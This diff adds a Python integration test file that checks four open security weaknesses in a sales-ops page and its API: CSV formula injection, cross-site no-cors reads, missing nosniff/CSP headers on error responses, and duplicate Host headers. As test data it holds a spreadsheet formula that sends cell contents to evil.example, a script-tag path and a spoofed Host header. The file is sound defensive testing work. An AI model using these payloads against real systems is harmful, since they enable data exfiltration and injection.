@@ -1,0 +1,103 @@
+"""Attacks on issue 14's sales-ops page and its API that still work (review
+R14). Each test FAILS today and passes once its fix lands; then it moves
+into test_page_attack_review.py. Not test_*.py, so not in the suite. Run:
+
+    cd <build> && PYTHONPATH=gen/python WL_BUILD_DIR=$PWD \\
+        python3 -m unittest -v known_open_page_attacks  (from tests/integration)
+
+1. The page's CSV download guards only a cell's start; the CLI's --csv also
+   guards after each ';', ',' and TAB inside a cell (tools/table.c
+   csv_field). Fix: web/app.js csvCell, as the CLI.
+2. Without tokens, a foreign page's no-cors GET (an <img>, a <script>, a
+   fetch with mode 'no-cors': no Origin, own Host) reaches every data route:
+   the collector does a hot-list scan (up to 100,000 rank entries) for any
+   site the operator visits, and answers leak by size and timing. Browsers
+   mark it Sec-Fetch-Site: cross-site. Fix: collector/api_guard.c
+   wl_api_guard, refuse Sec-Fetch-Site cross-site and same-site (403).
+3. Error answers (404 of an asset quoting `<script>` back, 405 of HEAD /)
+   carry neither nosniff nor the page's CSP. Fix: collector/api.c queue(),
+   X-Content-Type-Options: nosniff and a `default-src 'none';
+   frame-ancestors 'none'` CSP on every API answer.
+4. Two Host headers: the first is taken (RFC 9112 3.2: answer 400). No
+   browser sends two, so it is hardening. Fix: collector/api_guard.c (or
+   on_headers), count Host headers with MHD_get_connection_values.
+"""
+
+import json
+import os
+import subprocess
+import unittest
+
+from harness import CLI_BIN, CollectorCase, Collector
+from test_page_attack_review import (CSP, HOSTILE_DOMAIN, HOSTILE_VERSION, import_hostile,
+                                     raw_request, req, run_js_function)
+
+NAME = 'Acme;=HYPERLINK("http://evil.example/?"&A1)'
+OWNER = "=1+2;@SUM(1)"
+
+
+class KnownOpenPage(CollectorCase):
+
+    @classmethod
+    def setUpClass(cls):
+        c = Collector(name="page-open")
+        cls.addClassCleanup(c.close)
+        import_hostile(c)
+        c.start()
+        cls.addClassCleanup(c.stop)
+        cls.c = c
+        cls.port = c.api_port
+        cls.own = "127.0.0.1:%d" % c.api_port
+
+    def send(self, method, target, headers, body=b""):
+        return raw_request(self.port, req(method, target, headers, body))
+
+    def test_1_csv_cells_guarded_after_separators_like_the_cli(self):
+        csv = ('domain,name,owner\n%s,"%s","%s"\n' % (HOSTILE_DOMAIN, NAME.replace('"', '""'),
+                                                      OWNER)).encode()
+        r = self.send("PUT", "/v1/named-accounts",
+                      [("Host", self.own), ("Content-Type", "text/csv")], csv)
+        self.assertEqual(r.status, 200, r.body)
+        cli = subprocess.run([CLI_BIN, "hot", "--csv", "--url", "http://" + self.own],
+                             capture_output=True, text=True, timeout=60,
+                             stdin=subprocess.DEVNULL)
+        self.assertEqual(cli.returncode, 0, cli.stderr)
+        self.assertIn(";'=HYPERLINK", cli.stdout, "the CLI guards after ';'")
+        self.assertIn(";'@SUM", cli.stdout)
+        page = run_js_function("csvCell", [NAME, OWNER, HOSTILE_VERSION, "1.0\t=1+1",
+                                           "1.0,=1+1"])
+        for cell in page:
+            with self.subTest(cell=cell):
+                self.assertRegex(cell, r"[;,\t]'[=+\-@]", "the page's CSV guards as the CLI's")
+
+    def test_2_cross_site_no_cors_reads_refused(self):
+        for dest in ("script", "image", "empty"):
+            for target in ("/v1/accounts/hot?limit=1000&rule=second_install",
+                           "/v1/accounts/domain:" + HOSTILE_DOMAIN, "/v1/signals"):
+                with self.subTest(dest=dest, target=target):
+                    r = self.send("GET", target, [
+                        ("Host", self.own), ("Sec-Fetch-Site", "cross-site"),
+                        ("Sec-Fetch-Mode", "no-cors"), ("Sec-Fetch-Dest", dest)])
+                    self.assertEqual(r.status, 403, r.body[:200])
+        # the page's own calls and the CLI (no Sec-Fetch-*) go on
+        r = self.send("GET", "/v1/accounts/hot", [("Host", self.own),
+                                                  ("Sec-Fetch-Site", "same-origin")])
+        self.assertEqual(r.status, 200)
+
+    def test_3_error_answers_carry_nosniff_and_a_csp(self):
+        for method, target in (("GET", "/assets/<script>alert(1)</script>"), ("HEAD", "/"),
+                               ("POST", "/"), ("GET", "/nope"), ("GET", "/v1/accounts/hot")):
+            with self.subTest(method=method, target=target):
+                r = self.send(method, target, [("Host", self.own)])
+                self.assertEqual(r.headers.get("x-content-type-options"), "nosniff", r.headers)
+                csp = r.headers.get("content-security-policy", "")
+                self.assertIn("frame-ancestors 'none'", csp, r.headers)
+                self.assertTrue(csp == CSP or "default-src 'none'" in csp, csp)
+
+    def test_4_two_host_headers_are_400(self):
+        r = self.send("GET", "/v1/rules", [("Host", self.own), ("Host", "evil.example")])
+        self.assertEqual(r.status, 400, r.body[:200])
+
+
+if __name__ == "__main__":
+    unittest.main()
